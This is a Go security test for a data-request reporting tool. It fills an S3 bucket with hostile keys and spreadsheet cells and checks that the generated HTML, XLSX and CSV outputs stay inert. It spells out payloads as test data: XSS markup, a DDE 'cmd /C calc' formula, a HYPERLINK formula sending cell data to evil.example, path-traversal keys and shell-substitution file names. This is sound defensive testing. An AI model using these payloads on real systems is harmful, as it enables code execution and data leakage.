package main

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/xuri/excelize/v2"
)

// owning would mark the page that it runs in.
const owning = `"><img src=x onerror="document.documentElement.dataset.owned=1"><script>document.documentElement.dataset.owned=1</` + `script>`

// hostileWorkbook has scripts, formulas and control characters in its cells, in the name of its sheet and in what is said of it.
func hostileWorkbook(t *testing.T) string {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	const sheet = "=1+1<b onload=x>"
	err := f.SetSheetName("Sheet1", sheet)
	for cell, value := range map[string]string{
		"A1": "id", "B1": "email", "C1": owning, "D1": "=cmd|' /C calc'!A0", "A2": "1", "B2": mieke, "C2": owning, "D2": "=HYPERLINK(\"http://evil.example/?\"&A1)",
		"A3": "2", "B3": joris, "C3": "@SUM(1)", "D3": "\t=1+1",
	} {
		if err == nil {
			err = f.SetCellStr(sheet, cell, value)
		}
	}
	if err == nil {
		err = f.SetCellFormula(sheet, "E2", `"x"&B2`)
	}
	var b bytes.Buffer
	if err == nil {
		err = f.Write(&b)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestHostileBucketIsInert takes keys of a real bucket that would act in a browser, a spreadsheet, a terminal or a file system, and workbooks and
// documents of that sort, to reports and to a package.
func TestHostileBucketIsInert(t *testing.T) {
	t.Parallel()
	s := changedStore(t, "", nil, "")
	table := "id,email,note\n1," + mieke + ",\"=cmd|' /C calc'!A0\"\n2," + joris + ",x\n"
	stored := 0
	for key, content := range map[string]string{
		"../../etc/passwd.csv": table, "a/../../b.csv": table, `..\..\x.csv`: table, "/abs.csv": table, "con.csv": table, "-rf ~.csv": table, "$(touch owned).csv": table,
		"=HYPERLINK(\"evil.example\").csv": table, "@SUM(1+1).csv": table, strings.ReplaceAll(owning, "/", "") + ".csv": table, "x\x1b[2J\u202egnp.csv": table, "new\nline.csv": table,
		"cells.xlsx": hostileWorkbook(t),
		`letters/..\..\evil` + strings.ReplaceAll(owning, "/", "") + ".rtf": paper("Your address is " + mieke), "letters/=1+1.rtf": paper("Your address is " + mieke),
		"letters/con.rtf": paper("Your address is " + mieke), "letters/\x1b[2J.rtf": paper("Your address is " + mieke),
	} {
		if _, err := s.Client().PutObject(t.Context(), &s3.PutObjectInput{Bucket: &s.bucket, Key: &key, Body: strings.NewReader(content)}); err != nil {
			t.Logf("the server takes no key like %q", key) // paths that lead out of it, which an archive's members have in other tests
			continue
		}
		stored++
	}
	if stored < 12 {
		t.Fatalf("the server took %d keys: too few to tell anything", stored)
	}
	record := filepath.Join(s.home, "register.yaml")
	if err := os.WriteFile(record, []byte(hostileRegister), 0o600); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(s.home, "dossier.yaml")
	// The server lists some of these keys and then does not find them, which the scan tells.
	s.run(incomplete, "", "scan", "--config", config, "--quiet")
	id, _, _ := strings.Cut(s.run(complete, mieke+"\n", "request", "open", "--type", "access", "--email", "-", "--country", "BE"), " ")
	s.run(incomplete, "", "request", "search", id)
	dir, report, workbook, packed := filepath.Join(s.home, "out", "package"), filepath.Join(s.home, "report.html"), filepath.Join(s.home, "report.xlsx"), filepath.Join(s.home, "tables")
	s.erase(incomplete, "package", id, "--register", record, "--out", dir)
	for _, to := range []string{report, workbook} {
		s.run(incomplete, "", "report", "--config", config, "--output", to)
	}
	s.run(incomplete, "", "report", "--config", config, "--format", "csv", "--output", packed+"/")
	out := s.run(incomplete, "", "report", "--config", config, "--format", "table")
	if strings.ContainsAny(out, "\x1b\u202e") {
		t.Error("control characters of a key reach the terminal")
	}
	if words, _ := inertPage(t, filepath.Join(dir, "index.html")); strings.ContainsAny(words, "\x1b\u202e") {
		t.Error("control characters of a key stand on the page")
	}
	if n := inertFiles(t, dir); n < 8 {
		t.Errorf("%d files of CSV, want one of each table", n)
	}
	inertFiles(t, packed)
	if all := attached(t, dir); len(all) < 3 {
		t.Errorf("attached are %q, want the letters", all)
	}
	inertWorkbook(t, workbook)
	for _, page := range []string{filepath.Join(dir, "index.html"), report} {
		browse(t, page)
	}
	if all, err := os.ReadDir(filepath.Dir(dir)); err != nil || len(all) != 1 {
		t.Errorf("%d things lie beside the package (%v)", len(all)-1, err)
	}
}

// inertWorkbook sees that no cell of a workbook is a formula, and nothing in it leads elsewhere.
func inertWorkbook(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, member := range z.File {
		f, err := member.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(f)
		_ = f.Close()
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{"<f>", "<f ", `TargetMode="External"`, "<script>document"} {
			if bytes.Contains(text, []byte(bad)) {
				t.Errorf("%s of the workbook holds %s", member.Name, bad)
			}
		}
	}
}

// browse opens a page in Chromium, where there is one: nothing of the data runs.
func browse(t *testing.T, page string) {
	t.Helper()
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Logf("%s was read by a parser alone: there is no Chromium to open it in", filepath.Base(page))
		return
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(), "--dump-dom", "file://"+page)
	dom, err := cmd.Output()
	if err != nil {
		t.Fatalf("Chromium: %v", err)
	}
	root, _, _ := strings.Cut(string(dom), "<head")
	if strings.Contains(root, "data-owned") || !bytes.Contains(dom, []byte("onerror")) {
		t.Errorf("%s: something of the data ran in Chromium, or does not stand on the page: %.200s", filepath.Base(page), root)
	}
}
